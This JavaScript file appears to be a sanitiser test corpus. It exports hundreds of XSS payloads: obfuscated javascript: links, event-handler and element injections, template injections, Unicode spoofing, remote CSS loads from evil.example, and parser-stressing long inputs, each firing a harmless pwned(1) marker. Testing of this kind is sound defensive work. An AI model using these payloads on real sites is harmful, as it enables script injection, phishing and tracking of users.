// Texts that try to become more than text: scripts, handlers, addresses, styles, markup of other kinds. Each is written
// for this project. What succeeds calls `pwned(…)`, opens a dialog, loads something, or leaves an element behind.

const CALL = 'pwned(1)';

// Letters of "javascript:" that are hidden in the ways in which filters were ever fooled.
const SCHEMES = [
  'javascript:', 'JAVASCRIPT:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '\u00a0javascript:', '\u200bjavascript:', 'java\u00adscript:',
  'javascript\u200b:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', '&#106;avascript:', '&#x6A;avascript:', 'java&Tab;script:',
  'java&NewLine;script:', 'javascript%3a', '%6aavascript:', '\\u006aavascript:', '\\x6aavascript:', 'ｊavascript:', 'javascript：', 'ϳavascript:',
  'vbscript:', 'VbScRiPt:', 'livescript:', 'mocha:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:,', 'DATA:text/html,',
  'blob:', 'filesystem:', 'file:///', 'about:', 'view-source:javascript:', 'jar:', 'ws://', 'ftp://', 'intent:', 'feed:javascript:', '//', '/\\', '\\\\', '#', '?',
  'http:javascript:', 'https:/javascript:', 'http:///javascript:', 'mailto:javascript:', 'mailto:', 'x-javascript:',
];

const links = SCHEMES.flatMap((scheme) => [
  `[click](${scheme}${CALL})`,
  `[click](<${scheme}${CALL}>)`,
  `<${scheme}${CALL}>`,
  `<a href="${scheme}${CALL}">click</a>`,
]);

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onbegin', 'onanimationstart', 'onwheel'];
const handlers = HANDLERS.flatMap((handler) => [
  `<img src=x ${handler}=${CALL}>`,
  `<svg ${handler}="${CALL}"></svg>`,
  `" ${handler}="${CALL}" x="`,
  `' ${handler}='${CALL}' autofocus tabindex=0 '`,
  `[x](https://a.example/"${handler}="${CALL})`,
  `https://a.example/"${handler}="${CALL}`,
  `\`\`\`"${handler}="${CALL}\ncode\n\`\`\``,
]);

const elements = [
  `<script>${CALL}</script>`, `<SCRIPT SRC=data:,${CALL}></SCRIPT>`, `<script/x>${CALL}</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`, `<script\n>${CALL}</script\n>`, `</script><script>${CALL}</script>`, `<script>${CALL}`, `\\x3cscript\\x3e${CALL}`,
  `\\u003cscript\\u003e${CALL}`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`, `＜script＞${CALL}＜/script＞`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data="javascript:${CALL}">`, `<embed src="javascript:${CALL}">`, `<base href="javascript:${CALL}//">`, `<link rel=stylesheet href="data:text/css,*{x:y}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<button formaction="javascript:${CALL}">x`,
  `<input autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<body onload=${CALL}>`,
  `<marquee onstart=${CALL}>`, `<isindex type=image src=1 onerror=${CALL}>`, `<template><img src=x onerror=${CALL}></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`, `<title><img title="</title><img src=x onerror=${CALL}>">`, `<style><img src="</style><img src=x onerror=${CALL}>">`,
  `<xmp><img alt="</xmp><img src=x onerror=${CALL}>">`, `<!--><img src=x onerror=${CALL}>-->`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`, `<!DOCTYPE x [<!ENTITY y "${CALL}">]>&y;`, `<dialog open>x</dialog>`, `<portal src="javascript:${CALL}">`, `<slot onslotchange=${CALL}>`,
  `<x onclick=${CALL} contenteditable>y</x>`, `<a is="x-a" href=x>y</a>`, `<img src=1 srcset="x 1x" sizes=1 onerror=${CALL}>`, `<picture><img src=x onerror=${CALL}></picture>`,
  `<frameset onload=${CALL}>`, `<table background="javascript:${CALL}">`, `<bgsound src="javascript:${CALL}">`, `<layer src="javascript:${CALL}">`, `<applet code="javascript:${CALL}">`,
];

const foreign = [
  `<svg><script>${CALL}</script></svg>`, `<svg><script href="data:,${CALL}"/></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${CALL}">`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><desc><img src=x onerror=${CALL}></desc></svg>`, `<svg><title><style></title><img src=x onerror=${CALL}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#http://a.example" xlink:href="javascript:${CALL}">x`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`, `<svg><handler xmlns:ev="x" ev:event="load">${CALL}</handler></svg>`,
];

const templates = [
  `{{${CALL}}}`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{%raw%}${CALL}`, `[[${CALL}]]`, `@{${CALL}}`, `*{${CALL}}`, `~{::${CALL}}`,
  `{{$on.constructor('${CALL}')()}}`, `{{_openBlock.constructor('${CALL}')()}}`, `<div v-html="'<img src=x onerror=${CALL}>'">`, `<div ng-app>{{${CALL}}}</div>`, `<div x-data x-init="${CALL}">`,
  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${CALL}>'}}>`, `html! { <script>{ "${CALL}" }</script> }`, `{"__html":"<img src=x onerror=${CALL}>"}`, `__proto__[x]=${CALL}`, `%s%n%x{${CALL}}`,
];

const breakers = [
  `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `</span><img src=x onerror=${CALL}>`, `</div></div><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `\`><img src=x onerror=${CALL}>`, `"/><svg/onload=${CALL}>`, `';${CALL};'`, `";${CALL};"`, `\\";${CALL};//`, `*/${CALL}/*`, `\u2028${CALL}\u2029`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`,
  `x" title="y" href="javascript:${CALL}`, `x onclick=${CALL} `, `&quot;><img src=x onerror=${CALL}>`, `&#34;&#62;<img src=x onerror=${CALL}>`, `\u00ff"><img src=x onerror=${CALL}>`,
];

const unicode = [
  `\u202e<script>${CALL}</script>`, `<scr\u200bipt>${CALL}</script>`, `<\u0131mg src=x onerror=${CALL}>`, `<\u017fcript>${CALL}</\u017fcript>`, `＜img src=x onerror=${CALL}＞`, `\ufeff<img src=x onerror=${CALL}>`,
  `‹script›${CALL}‹/script›`, `〈script〉${CALL}〈/script〉`, `<img\u2028src=x\u2029onerror=${CALL}>`, `<img\u3000src=x\u3000onerror=${CALL}>`, `＂onmouseover＝${CALL}`, `ʺ onclick=${CALL} ʺ`,
  `\ud83d\ude00<img src=x onerror=${CALL}>\ud83d\ude00`, `[\u202egro.elpmaxe\u202c](https://evil.example)`, `[bank\u3002example](https://evil.example)`, `https://bank.example\u2044@evil.example`,
  `https://evil.example\u3002bank.example`, `https://аpple.example`, `https://evil.example/\u202egnp.exe`, `e\u0301\u0301\u0301\u0301<img src=x onerror=${CALL}>`,
];

const markdown = [
  `![x](javascript:${CALL})`, `![x](https://evil.example/x.png)`, `![x][y]\n\n[y]: javascript:${CALL}`, `[x][y]\n\n[y]: javascript:${CALL}`, `[x](javascript:${CALL} "title")`, `[x](https://a.example "onmouseover=${CALL}")`,
  `[x](https://a.example 'x' onclick=${CALL})`, `[![x](https://evil.example/a.png)](javascript:${CALL})`, `[<img src=x onerror=${CALL}>](https://a.example)`, `**<img src=x onerror=${CALL}>**`, `~~<script>${CALL}</script>~~`,
  `\`<img src=x onerror=${CALL}>\``, `> <script>${CALL}</script>`, `- <img src=x onerror=${CALL}>`, `1. <svg onload=${CALL}>`, `# <img src=x onerror=${CALL}>`, `| <img src=x onerror=${CALL}> |\n|---|`,
  `\`\`\`<script>\n${CALL}\n\`\`\``, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `\`\`\`js" onload="${CALL}\nx\n\`\`\``, `[a [b](javascript:${CALL}) c](https://a.example)`, `[a](https://a.example)](javascript:${CALL})`,
  `[x](https://a.example)<script>${CALL}</script>`, `[x](https://user:pass@evil.example)`, `[https://bank.example](https://evil.example)`, `[x](https://a.example\\"onclick=${CALL})`, `[x](https://a.example\`onclick=${CALL})`,
  `<https://a.example/"onclick=${CALL}>`, `*[x](javascript:${CALL})*`, `[*x*](vbscript:${CALL})`, `[x]( javascript:${CALL} )`, `[x](\njavascript:${CALL}\n)`, `[x\n](javascript:${CALL})`, `javascript:${CALL}//https://a.example`,
  `https://a.example/javascript:${CALL}`, `https://javascript:${CALL}`, `mailto:a@b.example?subject=<script>${CALL}</script>`, `[x](mailto:a@b.example?body=<script>${CALL}</script>)`, `a"onclick=${CALL}"@b.example`,
  `<a@b.example" onclick="${CALL}">`, `[^1]: <script>${CALL}</script>`, `<details><summary>**x**</summary>`, `&lt;img src=x onerror=${CALL}&gt;`, `\\<script>${CALL}\\</script>`, `:<img src=x onerror=${CALL}>:`,
];

const styles = [
  `<style>*{background:url(https://evil.example/x)}</style>`, `<style>@import'https://evil.example/x.css'</style>`, `<p style="background:url(javascript:${CALL})">x</p>`, `<p style="position:fixed;inset:0">x</p>`,
  `<p style=x:expression(${CALL})>x</p>`, `<p style="-moz-binding:url(https://evil.example/x)">x</p>`, `</style><script>${CALL}</script>`, `};*{display:none}`, `url("javascript:${CALL}")`, `@import url(javascript:${CALL});`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<div class="shell" id="app">x</div>`, `<font color="url(javascript:${CALL})">x</font>`, `x{}/*</style><img src=x onerror=${CALL}>*/`, `\\3c script\\3e ${CALL}`,
];

const long = [
  '<img src=x onerror=pwned(1)>'.repeat(500), '<b>'.repeat(4_000), '['.repeat(8_000) + 'x](javascript:pwned(1))', '[x]('.repeat(3_000) + 'javascript:pwned(1)' + ')'.repeat(3_000), '**'.repeat(8_000) + `<script>${CALL}</script>`,
  '> '.repeat(7_000) + `<script>${CALL}</script>`, '- '.repeat(7_000) + `<img src=x onerror=${CALL}>`, `https://a.example/${'"'.repeat(9_000)}onclick=${CALL}`, '`'.repeat(9_999) + `<script>${CALL}</script>`, '&lt;'.repeat(4_000) + 'script&gt;',
  `[x](https://a.example/${'('.repeat(7_000)}javascript:${CALL}${')'.repeat(7_000)})`, '😀'.repeat(4_000) + `<img src=x onerror=${CALL}>`,
];

/** All of them, each once. */
export const PAYLOADS = [...new Set([...links, ...handlers, ...elements, ...foreign, ...templates, ...breakers, ...unicode, ...markdown, ...styles, ...long])];
